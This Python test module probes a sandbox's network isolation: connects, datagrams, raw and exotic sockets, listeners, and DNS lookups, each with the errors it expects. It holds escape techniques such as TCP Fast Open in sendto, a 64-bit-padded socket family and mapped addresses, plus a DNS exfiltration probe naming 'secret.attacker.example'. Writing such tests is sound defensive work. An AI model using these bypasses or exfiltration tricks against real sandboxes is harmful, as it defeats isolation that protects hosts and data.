"""The network without a grant: no packet leaves, nothing of the host's answers, and nobody can come in."""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

from ..catalogue import add, attempt
from ..kernel import call
from ..stakes import METADATA, OWN, PUBLIC, PUBLIC6, Listener, Reachable, Reached, Words

# The mount view's own network namespace has nothing in it; without it no socket can be made, or Landlock refuses the connection.
NOWHERE = {"namespaces": "ENETUNREACH|ECONNREFUSED", "plain": "EACCES|EPERM|EAFNOSUPPORT"}
LOOPBACK = {"namespaces": "ECONNREFUSED|ENETUNREACH", "plain": "EACCES|EPERM|EAFNOSUPPORT"}


def _connect(address: str, port: int) -> str:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as client:
        client.settimeout(2)
        client.connect((address, port))
    return "connected"


def _send(address: str, port: int) -> int:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as client:
        return client.sendto(b"hello", (address, port))


for _slug, _address, _world in (
    ("a-port-of-the-host", "127.0.0.1", False), ("a-port-of-the-host-by-ipv6", "::1", False),
    ("another-loopback-address-of-the-host", "127.1.2.3", False), ("a-public-address", PUBLIC, True),
    ("a-public-address-by-ipv6", PUBLIC6, True), ("the-metadata-address", METADATA, True),
):  # fmt: skip
    _expected = LOOPBACK if _address.startswith(("127", "::1")) else NOWHERE
    add(_connect, Listener(_address), name=f"connect-to-{_slug}", group="network", world=_world, **_expected)
    _expected = {"namespaces": "ok|ENETUNREACH|ECONNREFUSED|EPERM|EACCES", "plain": "EPERM|EACCES|EAFNOSUPPORT"}
    add(_send, Listener(_address, "dgram"), name=f"send-a-datagram-to-{_slug}", group="network", world=_world, **_expected)


@attempt(Listener("127.0.0.1"), **LOOPBACK)
def connect_to_the_host_by_a_mapped_address(port: int) -> str:
    return _connect("::ffff:127.0.0.1", port)


@attempt(Listener("127.0.0.1"), **LOOPBACK)
def connect_to_the_host_by_the_null_address(port: int) -> str:
    """0.0.0.0 is this machine for connect(2)."""
    return _connect("0.0.0.0", port)


@attempt(Listener("127.0.0.1"), **LOOPBACK)
def connect_to_the_host_without_waiting(address: str, port: int) -> str:
    client = socket.socket()
    client.setblocking(False)
    code = client.connect_ex((address, port))
    if code != 115:  # EINPROGRESS
        raise OSError(code, os.strerror(code))
    time.sleep(0.05)
    code = client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    if code:
        raise OSError(code, os.strerror(code))
    return "connected"


@attempt(Listener("127.0.0.1"), namespaces="ENOTSUP|ECONNREFUSED", plain="EACCES|EPERM|EAFNOSUPPORT|ENOTSUP")
def connect_with_data_in_the_first_packet(address: str, port: int) -> int:
    """TCP Fast Open connects in sendto(2): Landlock's first rules for TCP looked at connect(2) only."""
    with socket.socket() as client:
        return client.sendto(b"hello", 0x20000000, (address, port))  # MSG_FASTOPEN


@attempt(Listener("127.0.0.1"), namespaces="ENOTSUP|ECONNREFUSED", plain="EACCES|EPERM|EAFNOSUPPORT|ENOTSUP")
def connect_with_data_in_the_first_packet_of_sendmsg(address: str, port: int) -> int:
    with socket.socket() as client:
        return client.sendmsg([b"hello"], [], 0x20000000, (address, port))


@attempt(Listener("127.0.0.1"), **LOOPBACK)
def connect_with_the_first_packet_put_off(address: str, port: int) -> int:
    """TCP_FASTOPEN_CONNECT lets connect(2) return at once and connects at the first write."""
    with socket.socket() as client:
        client.setsockopt(socket.IPPROTO_TCP, 30, 1)
        client.connect((address, port))
        sent = client.send(b"hello")
        client.settimeout(0.3)
        try:
            client.recv(1)
        except TimeoutError:
            pass
        return sent


@attempt(
    Listener("127.0.0.1", "mptcp"),
    expected="EPERM|EACCES|EPROTONOSUPPORT|EAFNOSUPPORT",
    uncontrolled=dict.fromkeys(("root", "user"), ("ok|EPROTONOSUPPORT|ENOPROTOOPT", "not in every kernel")),
)
def connect_with_multipath_tcp(address: str, port: int) -> str:
    """Another protocol for the kernel's rules, the same one on the wire."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
        client.connect((address, port))
    return "connected"


@attempt(Listener("127.0.0.1", "dgram"), namespaces="ECONNREFUSED|ENETUNREACH|EPERM|ok", plain="EPERM|EACCES|EAFNOSUPPORT")
def send_datagrams_through_a_connected_socket(address: str, port: int) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect((address, port))
        return client.send(b"hello")


@attempt(
    Listener("127.0.0.53", "dgram", port=53),
    world=True,
    namespaces="ok|ECONNREFUSED|ENETUNREACH|EPERM",
    plain="EPERM|EACCES|EAFNOSUPPORT",
)
def ask_the_hosts_resolver(address: str, port: int) -> int:
    """A name that is looked up carries what it is made of: `secret.attacker.example`."""
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return client.sendto(query, (address, port))


@attempt(
    Listener("127.0.0.1", "dgram", port=53),
    world=True,
    expected="gaierror",
    timeout=12,
    uncontrolled=dict.fromkeys(("root", "user"), ("gaierror", "the listener hears the question and gives no answer")),
)
def look_a_name_up(address: str) -> str:
    os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
    return str(socket.getaddrinfo("secret.attacker.example", 80))


for _slug, _family, _kind, _protocol, _control in (
    ("a-raw-socket", socket.AF_INET, socket.SOCK_RAW, 255, "user"), ("a-raw-icmp-socket", socket.AF_INET, socket.SOCK_RAW, 1, "user"),
    ("a-packet-socket", 17, socket.SOCK_RAW, 0x300, "user"), ("a-ping-socket", socket.AF_INET, socket.SOCK_DGRAM, 1, "both"),
    ("a-netlink-socket-for-audit", 16, socket.SOCK_RAW, 9, None), ("a-netlink-socket-for-netfilter", 16, socket.SOCK_RAW, 12, None),
    ("a-netlink-socket-for-socket-diagnosis", 16, socket.SOCK_RAW, 4, None),
    ("a-netlink-socket-for-device-events", 16, socket.SOCK_RAW, 15, None), ("a-vsock-socket", 40, socket.SOCK_STREAM, 0, "both"),
    ("a-crypto-socket", 38, socket.SOCK_SEQPACKET, 0, "both"), ("a-bluetooth-socket", 31, socket.SOCK_RAW, 1, "both"),
    ("a-can-socket", 29, socket.SOCK_RAW, 1, "both"), ("a-tipc-socket", 30, socket.SOCK_RDM, 0, "both"),
    ("an-rds-socket", 21, socket.SOCK_SEQPACKET, 0, "both"), ("a-kcm-socket", 41, socket.SOCK_DGRAM, 0, "both"),
    ("an-xdp-socket", 44, socket.SOCK_RAW, 0, "both"), ("an-ax25-socket", 3, socket.SOCK_DGRAM, 0, "both"),
    ("an-appletalk-socket", 5, socket.SOCK_DGRAM, 0, "both"), ("a-key-management-socket", 15, socket.SOCK_RAW, 2, "both"),
    ("a-phonet-socket", 35, socket.SOCK_DGRAM, 0, "both"), ("an-sctp-socket", socket.AF_INET, socket.SOCK_STREAM, 132, "both"),
    ("a-dccp-socket", socket.AF_INET, 6, 33, "both"), ("a-udp-lite-socket", socket.AF_INET, socket.SOCK_DGRAM, 136, "both"),
    ("an-smc-socket", 43, socket.SOCK_STREAM, 0, "both"), ("a-qrtr-socket", 42, socket.SOCK_DGRAM, 0, "both"),
):  # fmt: skip

    def _open(family: int, kind: int, protocol: int) -> str:
        with socket.socket(family, kind, protocol):
            return "opened"

    _reasons = {
        "user": (
            "ok|EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT",
            "a capability, or a protocol that this kernel lacks",
        ),
        "root": ("ok|EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT|ESOCKTNOSUPPORT", "a protocol that this kernel lacks"),
    }
    add(
        _open, Reached(), name=f"make-{_slug}", group="network", bound={"family": _family, "kind": _kind, "protocol": _protocol},
        expected="EPERM|EACCES|EAFNOSUPPORT|EPROTONOSUPPORT", uncontrolled=_reasons if _control else {},
    )  # fmt: skip


@attempt(Reached(), expected="EPERM|EACCES|EAFNOSUPPORT")
def make_a_netlink_socket_with_the_upper_half_of_the_register_set() -> str:
    """The family is an int for the kernel; a filter that compares 64 bits sees another number."""
    return f"descriptor {call('socket', 1 << 32 | 16, socket.SOCK_RAW, 4)}"


@attempt(Reached(), expected="EPERM|EACCES|EAFNOSUPPORT", uncontrolled={"user": ("EPERM", "needs CAP_NET_RAW")})
def make_a_packet_socket_with_flags_in_its_type() -> str:
    """SOCK_CLOEXEC and SOCK_NONBLOCK are in the same argument as the type."""
    return f"descriptor {call('socket', 17, socket.SOCK_RAW | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK, 0x300)}"


@attempt(Words(OWN), world=True, expected="ok|EPERM|EACCES|EAFNOSUPPORT|gaierror|PermissionError")
def list_the_hosts_addresses_by_netlink() -> str:
    with socket.socket(16, socket.SOCK_RAW, 0) as client:
        client.settimeout(1)
        client.bind((0, 0))
        client.send(struct.pack("IHHIIB7x", 24, 22, 0x301, 1, 0, 0))  # RTM_GETADDR, NLM_F_REQUEST | NLM_F_DUMP
        found = client.recv(65536)
    return " ".join(socket.inet_ntoa(found[index : index + 4]) for index in range(len(found) - 3))


@attempt(
    Words(OWN), world=True, expected="ok|EACCES|ENOENT|EPERM",
    weaker={"plain": "without a network namespace /proc/net is that of the machine"},
)  # fmt: skip
def list_the_hosts_addresses_in_proc() -> str:
    with open("/proc/net/fib_trie") as file:
        return file.read()


@attempt(
    Reached(),
    expected="EPERM|EACCES|EAFNOSUPPORT|ENETUNREACH|EPROTONOSUPPORT",
    world=True,
    uncontrolled=dict.fromkeys(("root", "user"), ("ok|EACCES|EPERM", "net.ipv4.ping_group_range may forbid it")),
)
def ping_a_public_address() -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as client:
        client.settimeout(1)
        client.sendto(struct.pack("BBHHH", 8, 0, 0, 0, 1), (PUBLIC, 0))
        return client.recv(64)


def _listen(address: str, port: int, family: int) -> str:
    with socket.socket(family) as server:
        server.bind((address, port))
        server.listen(1)
        server.settimeout(1.0)
        try:
            client, _ = server.accept()
        except TimeoutError:
            return "nobody came"
        client.send(b"evil")
        time.sleep(0.1)
        return "somebody came"


# In a namespace of its own a server may listen: nobody is there to come.
LISTEN = {"namespaces": "ok|EACCES|EPERM", "plain": "EACCES|EPERM|EAFNOSUPPORT"}
for _slug, _address, _family in (
    ("on-the-hosts-loopback", "127.0.0.1", socket.AF_INET), ("on-all-of-the-hosts-addresses", "0.0.0.0", socket.AF_INET),
    ("on-the-hosts-ipv6-loopback", "::1", socket.AF_INET6),
):  # fmt: skip
    add(
        _listen, Reachable("::1" if ":" in _address else "127.0.0.1"), name=f"listen-{_slug}", group="network",
        bound={"address": _address, "family": _family}, **LISTEN,
    )  # fmt: skip


@attempt(Reachable(), **LISTEN, timeout=3)
def listen_without_binding_first(port: int) -> str:
    """listen(2) on a socket without an address takes a free port: Landlock's rule is for bind(2). The port is told through a bind of 0."""
    with socket.socket() as server:
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.listen(1)
        found = server.getsockname()[1]
    return _listen("127.0.0.1", port, socket.AF_INET) + f" {found}"


@attempt(Listener("127.0.0.1"), **LOOPBACK)
def connect_with_another_program(port: int) -> bytes:
    code = f"""
import socket, sys
try: socket.create_connection(("127.0.0.1", {port}), 2)
except OSError as error: sys.exit(error.errno)
"""
    pid = os.posix_spawn(sys.executable, [sys.executable, "-I", "-S", "-c", code], os.environ)
    found = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if found:
        raise OSError(found, os.strerror(found))
    return b"connected"


del _slug, _address, _world, _expected, _family, _kind, _protocol, _control, _reasons
